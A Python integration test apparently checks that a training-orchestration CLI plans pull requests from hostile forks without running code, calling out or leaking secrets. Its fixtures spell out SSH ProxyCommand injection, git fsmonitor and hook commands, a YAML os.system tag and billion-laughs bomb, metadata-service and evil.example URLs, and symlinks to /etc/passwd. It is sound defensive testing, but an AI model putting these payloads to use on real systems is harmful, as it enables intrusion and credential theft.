"""Pull requests of hostile forks, planned with --untrusted: nothing leaves, nothing runs, nothing of the runner is shown.

One process plans them all, in a network where every address is a recorder's. An audit hook after that of the program
notes what gets past it.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.e2e.test_hostile_manifest import ROOT, VARIABLES, canary, files_with_credentials, network
from tests.support.servers.certificate_authority import authority

pytestmark = pytest.mark.integration
__all__ = ["network"]

PLANNER = """
import contextlib, io, json, os, sys, time
from pathlib import Path
from trainctl.cli.main import main
from trainctl.operations.survey import confinement
confinement._install()
events, private = [], sys.argv[2]
def note(event, args):
    if event in confinement._PROGRAMS or event == "socket.connect":
        events.append([event, str(args[1] if event == "socket.connect" else args[0])])
    elif event == "open" and str(args[0]).startswith((private, "/etc/passwd", "/etc/shadow", "/proc/self/environ")):
        events.append([event, str(args[0])])
sys.addaudithook(note)
results = {}
for directory in sorted(Path(sys.argv[1]).iterdir()):
    del events[:]
    began, printed = time.monotonic(), io.StringIO()
    os.chdir(directory / "work")
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        code = main(["plan", "--untrusted", "--out", str(directory / "plan.json")])
        if code == 0:
            code = main(["show", str(directory / "plan.json"), "--format", "markdown"])
    results[directory.name] = {
        "code": code, "events": list(events), "seconds": time.monotonic() - began, "printed": printed.getvalue(),
    }
print(json.dumps(results))
"""


class Fork(NamedTuple):
    """A repository: its manifest, other files, symlinks, the exit code, and words that are printed."""

    manifest: str
    code: int = 0
    says: str = ""
    files: dict[str, str] = {}  # noqa: RUF012 (not changed)
    links: dict[str, str] = {}  # noqa: RUF012 (not changed)


JOB = "jobs: {j: {weights: [m], runtime: {start_commands: [ls]}}}\n"
PLAIN = "jobs: {j: {runtime: {start_commands: [ls]}}}\n"
PRIVATE, OUTSIDE = "not a public address", "is not inspected for an untrusted plan"
LINK = "leaves the directory of the manifest"
METADATA = "http://169.254.169.254"


def weights(source: str, more: str = "") -> str:
    """A manifest with one source."""
    return f"weights: {{m: {{source: '{source}'{more}}}}}\n{JOB}"


def secret(origin: str) -> str:
    """A manifest with a secret that its job and its source use."""
    auth = ", auth: {auth_method: CUSTOM_SECRET, auth_secret_name: s}"
    return f"secrets: {{s: {{{origin}}}}}\n{weights('hf://a/b', auth)}"


def cluster(settings: str) -> str:
    """A manifest with a job on a cluster."""
    return f"clusters: {{c: {{{settings}}}}}\njobs: {{j: {{cluster: c, runtime: {{start_commands: [ls]}}}}}}\n"


BOMB = "x0: &x0 [a, a, a, a, a, a, a, a, a]\n" + "".join(
    f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 10)
)
HOOKS = {
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/objects/x": "",
    ".git/refs/x": "",
    ".git/config": "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch RAN\n\thooksPath = .\n[filter \"x\"]\n\tclean = touch RAN; cat\n",
    ".git/hooks/post-checkout": "#!/bin/sh\ntouch RAN\n",
    ".gitattributes": "* filter=x\n",
    "a.txt": "a",
}  # fmt: skip
FORKS = {
    "ssh host": Fork(cluster("provider: ssh, hosts: [evil.example]")),
    "ssh option as host": Fork(cluster("provider: ssh, hosts: ['-oProxyCommand=touch RAN']"), 1),
    "ssh host by its address": Fork(cluster("provider: ssh, hosts: [{name: a, address: 10.0.0.5}]")),
    "ssh jump host": Fork(cluster("provider: ssh, hosts: [a], jump: evil.example")),
    "slurm login": Fork(cluster("provider: slurm, login: evil.example"), 1),
    "aws": Fork(cluster("provider: aws, region: us-east-1, instance_types: [p5.48xlarge]"), 1),
    "unknown provider": Fork(cluster("provider: evil"), 1),
    "https to loopback": Fork(weights("https://127.0.0.1:8443/m.bin"), says=PRIVATE),
    "https to the metadata service": Fork(weights("https://169.254.169.254/m.bin"), says=PRIVATE),
    "https to a private address": Fork(weights("https://10.0.0.5/m.bin"), says=PRIVATE),
    "https to IPv6 loopback": Fork(weights("https://[::1]/m.bin"), says="warning: weights.m"),
    "https to a mapped address": Fork(weights("https://[::ffff:127.0.0.1]/m.bin"), says="warning: weights.m"),
    "https to a decimal address": Fork(weights("https://2130706433/m.bin"), says="warning: weights.m"),
    "https to a name with a private address": Fork(weights("https://evil.example/m.bin"), says=PRIVATE),
    "a Hub with credentials around": Fork(weights("hf://a/b"), says="warning: weights.m"),
    "s3 endpoint": Fork(weights("s3://models/b", f", auth: {{endpoint_url: '{METADATA}'}}"), says=OUTSIDE),
    "s3 endpoint of a mirror": Fork(f"mirror: {{url: 's3://models/b', endpoint_url: '{METADATA}'}}\n{PLAIN}"),
    "s3 state": Fork(f"state: {{url: 's3://models/b', endpoint_url: '{METADATA}'}}\n{PLAIN}"),
    "checkpoints elsewhere": Fork(f"checkpoints: {{url: 's3://models/b', endpoint_url: '{METADATA}'}}\n{PLAIN}"),
    "mirror on a host": Fork(f"{cluster('provider: ssh, hosts: [evil.example]')}mirror: {{url: 'node://c/x'}}\n"),
    "role": Fork(weights("s3://models/b", ", auth: {auth_method: AWS_OIDC, aws_oidc_role_arn: 'arn:aws:iam::123456789012:role/r', aws_oidc_region: us-east-1}"), says=OUTSIDE),
    "bucket with the credentials of the runner": Fork(weights("s3://models/b"), says="warning: weights.m"),
    "/etc": Fork(weights("file:///etc"), says=OUTSIDE),
    "a directory above": Fork(weights("file:./../../home"), says=OUTSIDE),
    "a mirror in /etc": Fork(f"mirror: {{url: 'file:///etc'}}\n{PLAIN}"),
    "symlink as source": Fork(weights("file:./link"), 13, LINK, links={"link": "/etc"}),
    "symlink as manifest": Fork(PLAIN, 13, LINK, links={"more.trainctl.yaml": "/etc/passwd"}),
    "symlink as lock file": Fork(PLAIN, 13, LINK, links={"trainctl.lock": "/etc/passwd"}),
    "symlink as ignore file": Fork(PLAIN, 13, LINK, links={".trainctlignore": "../../../home/.netrc"}),
    "symlink through a directory": Fork(PLAIN, 13, LINK, {"d/x": ""}, {"d/up": "../../../../home"}),
    "git hooks, filters and monitors": Fork(PLAIN, files=HOOKS),
    "bare repository": Fork(PLAIN, 1, "bare", {"HEAD": "ref: refs/heads/main\n", "objects/x": "", "refs/x": "", "config": "[core]\n\tfsmonitor = touch RAN\n"}),
    "code above": Fork("jobs: {j: {code: .., runtime: {start_commands: [ls]}}}\n", 1, "outside"),
    "yaml bomb": Fork(BOMB + PLAIN, 1),
    "yaml tag": Fork("jobs: !!python/object/apply:os.system [touch RAN]\n", 1),
    "deep yaml": Fork("a: " + "[" * 5000 + "\n", 1),
    "huge numbers": Fork(f"clusters: {{c: {{provider: local, nodes: 1{'0' * 400}, gpus: 1{'0' * 400}}}}}\n{PLAIN}", 1),
    "huge matrix": Fork("jobs: {j: {matrix: {a: [%s], b: [%s]}, runtime: {start_commands: [ls]}}}\n" % ((",".join(map(str, range(3000))),) * 2), 1),
    "many nodes": Fork(cluster("provider: local, nodes: 1000000"), 1),
    "secret by a command": Fork(secret("from: command, command: [touch, RAN]"), says=OUTSIDE),
    "secret of the environment": Fork(secret("from: env, name: HF_TOKEN"), says=OUTSIDE),
    "secret in a file": Fork(secret("from: file, path: ../../../home/outside.txt"), says=OUTSIDE),
    "variable of the environment": Fork("vars: {secret: none}\n" + weights("https://evil.example/${{ var.secret }}/m.bin"), says="none/m.bin"),
    "extends with git": Fork(f"extends: 'git::https://evil.example/x.git//a.yaml?ref={'a' * 40}'\n{PLAIN}", 13, "git would run"),
    "extends of a file above": Fork(f"extends: ../../../home/outside.yaml\n{PLAIN}", 1, "is outside"),
    "image of a private registry": Fork("jobs: {j: {image: {base_image: '10.0.0.5:5000/a/b'}, runtime: {start_commands: [ls]}}}\n"),
    "hostile names": Fork("project: {name: '@admin <img src=x> ``` [a](https://x)'}\njobs: {'</details> @admin #1': {runtime: {start_commands: [\"```\\n</details>\\u202e@admin\"]}}}\n", says=""),
    "commands of the runner": Fork("project: {name: x}\njobs: {j: {runtime: {start_commands: [\"::set-output name=x::y\\n##[command]touch RAN\"]}}}\n"),
    "interpreter": Fork("jobs: {j: {runtime: {venv: ~/evil, start_commands: [python3]}}}\n", files={"bin/python3": "#!/bin/sh\ntouch RAN\n"}),
}  # fmt: skip
"""What each tries."""


def test_nothing_leaves_and_nothing_runs(network: tuple[str, Path], tmp_path: Path) -> None:
    """Of all forks; the recorder hears of names, and of buckets that are asked without credentials, only."""
    namespace, heard = network
    heard.unlink(missing_ok=True)
    home, forks, ran = tmp_path / "home", tmp_path / "forks", tmp_path / "ran"
    for name, text in {**files_with_credentials(home), "outside.yaml": "vars: {a: b}\n"}.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    for name, fork in FORKS.items():
        work = forks / name.replace("/", "_") / "work"
        work.mkdir(parents=True)
        for path, text in {"trainctl.yaml": fork.manifest, **fork.files}.items():
            (work / path).parent.mkdir(parents=True, exist_ok=True)
            (work / path).write_text(text.replace("RAN", str(ran)))
            (work / path).chmod(0o755)
        for path, target in fork.links.items():
            (work / path).symlink_to(target)
    trusted = str(authority().certificates)
    environ = {
        **{name: canary(name) for name in (*VARIABLES, "TRAINCTL_VAR_secret")},
        "HOME": str(home), "PATH": "/usr/bin:/bin", "SSL_CERT_FILE": trusted, "AWS_CA_BUNDLE": trusted,
        "XDG_CACHE_HOME": str(tmp_path / "cache"), "XDG_CONFIG_HOME": str(tmp_path / "config"),
        "AWS_ENDPOINT_URL_S3": "http://203.0.113.9:9000", "PYTHONDONTWRITEBYTECODE": "1",
    }  # fmt: skip
    argv = [
        "ip",
        "netns",
        "exec",
        Path(namespace).name,
        sys.executable,
        "-c",
        PLANNER,
        str(forks),
        f"{home}/",
    ]
    done = subprocess.run(argv, cwd=ROOT, env=environ, capture_output=True, text=True, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    results = json.loads(done.stdout)

    wrong = {}
    for name, fork in FORKS.items():
        result = results[name.replace("/", "_")]
        printed = result["printed"]
        plan = forks / name.replace("/", "_") / "plan.json"
        written = plan.read_text() if plan.exists() else ""
        problems = [
            f"exit code {result['code']}" if result["code"] != fork.code else "",
            f"does not say {fork.says!r}" if fork.says not in printed else "",
            f"events {result['events']}" if result["events"] else "",
            "internal error" if "internal-error" in printed or "Traceback" in printed else "",
            f"took {result['seconds']} s" if result["seconds"] > 20 else "",
            "shows a secret" if "canary" in printed + written or "root:x:" in printed else "",
        ]
        if any(problems):
            wrong[name] = [*filter(None, problems), printed[-600:]]
    assert not wrong, "\n\n".join(f"{name}: {'; '.join(text)}" for name, text in wrong.items())
    assert len(FORKS) >= 40
    assert not ran.exists()
    lines = [json.loads(line) for line in heard.read_text().splitlines()] if heard.exists() else []
    requests = [line for line in lines if line["port"] != 53]
    assert {line["name"] for line in requests} <= {"203.0.113.9:9000"}, requests
    assert not [
        line
        for line in lines
        if "canary" in line["said"] or "authorization" in line["said"].lower()
    ]
